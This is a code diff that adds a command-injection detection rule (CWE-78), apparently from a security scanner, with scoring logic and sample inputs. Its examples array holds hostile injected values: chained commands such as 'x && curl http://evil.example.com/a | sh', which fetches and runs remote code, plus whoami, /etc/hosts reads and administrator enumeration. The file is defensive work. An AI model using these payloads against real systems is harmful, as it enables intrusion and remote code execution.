@@ -1,0 +1,121 @@
+import { type CommandHead, introducer, shell } from '../../tokenise/shell.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { type Command, fit, readCommand } from './command.ts';
+import { endsText, followsValue, namesSecret, wordBefore } from './place.ts';
+import { columnNames, use } from './vocabulary.ts';
+
+/** `; id`, `| cat /etc/passwd`, `&& whoami`, `|| ping -c 10 127.0.0.1`. */
+export const chainedCommand: ValueRule = {
+  id: 'cmdi.chained-command',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'critical',
+  score: 88,
+  message: 'ends the expected command with a shell separator and starts another one',
+  trigger: { literals: [[';', '|', '&']] },
+  judge,
+  examples: [
+    '10.0.0.1; cat /etc/hosts',
+    'report.pdf | nslookup evil.example.com',
+    '"; uname -a; "',
+    'x && curl http://evil.example.com/a | sh',
+    '1 || ping -n 20 127.0.0.1',
+    'x & net localgroup administrators',
+    'img.png;id',
+    "a';w'h'oami;#",
+  ],
+  lookalikes: [
+    'salt & pepper; find more in our shop',
+    'Echo Park, cat cafés, ping pong & bash parties',
+    'either this | that; who knows?',
+    '| cat | curl |\n|---|---|\n| id | name |',
+    'Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9.2) Gecko/20100115',
+    'a=1; path=/; id=5; sort=asc',
+    'wash, cut & sort; sleep 8 hours',
+    '?type=cat&id=5&sort=name',
+  ],
+};
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  if (text.startsWith('Mozilla/') || text.startsWith('Opera/')) return judgeUserAgent(subject);
+  const reading = subject.tokens(shell);
+  if (!reading.complete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const head of reading.heads) {
+    if (head.introducer < introducer.semicolon || head.introducer > introducer.or) continue;
+    const command = readCommand(text, head);
+    if (command === undefined) continue;
+    const score = scoreOf(text, command);
+    if (score > (best?.score ?? 0)) best = { start: head.start, end: command.end, score };
+    if (score >= certain) break;
+  }
+  return best;
+}
+
+const certain = 88;
+
+/** The comment of a user agent is a list with semicolons whose items may be `id` or `ls`. */
+function judgeUserAgent(subject: Subject): Match | undefined {
+  for (const head of subject.tokens(shell).heads) {
+    if (head.introducer < introducer.semicolon || head.introducer > introducer.or) continue;
+    const command = readCommand(subject.text, head);
+    if (command?.fit === fit.full) return { start: head.start, end: command.end };
+  }
+  return undefined;
+}
+
+function scoreOf(text: string, command: Command): number {
+  const { head } = command;
+  const isValue = followsValue(text, head.start);
+  switch (command.fit) {
+    case fit.full:
+      return fullScore(text, command, isValue);
+    case fit.sureAlone:
+      return aloneScore(text, command, isValue, 85);
+    case fit.alone:
+      return aloneScore(text, command, isValue && !isListItem(text, command), 80);
+    case fit.aloneWord:
+      return isValue && isTight(text, head) && endsText(text, command.end) ? 60 : 35;
+    case fit.weak:
+      return isValue && isPlausible(text, command) && endsText(text, command.end) ? 76 : 45;
+    default:
+      return 0;
+  }
+}
+
+/** Any text is fine for `echo`; one word will do for `rm`, and for `del` when a comment follows. */
+function isPlausible(text: string, command: Command): boolean {
+  if ((command.uses & use.text) !== 0) return true;
+  if ((command.uses & use.english) === 0) return true;
+  return text.slice(command.end, command.end + 2).includes('#');
+}
+
+function fullScore(text: string, command: Command, isValue: boolean): number {
+  if (isValue) return command.hidden || command.hidesArgument ? 94 : 88;
+  if (command.hidden) return 90;
+  if (namesSecret(text, command.head.start, command.end)) return 80;
+  return (command.uses & use.english) !== 0 ? 45 : 60;
+}
+
+function aloneScore(text: string, command: Command, isValue: boolean, score: number): number {
+  if (command.hidden && isValue) return 92;
+  const ends = endsText(text, command.end);
+  if (ends && isValue) return score;
+  return ends || (command.hidden && isTight(text, command.head)) ? 55 : 40;
+}
+
+/** The command follows its separator without a blank. */
+function isTight(text: string, head: CommandHead): boolean {
+  const before = text.charCodeAt(head.nameStart - 1);
+  return before !== 32 && before !== 10;
+}
+
+/** `name;id`, `ego & id`: items of a list, words of a title. */
+function isListItem(text: string, command: Command): boolean {
+  const { head } = command;
+  if (columnNames.has(wordBefore(text, head.start))) return true;
+  const isLoose = text.charCodeAt(head.start - 1) === 32 && !isTight(text, head);
+  return isLoose && head.introducer === introducer.ampersand && head.start > 1;
+}
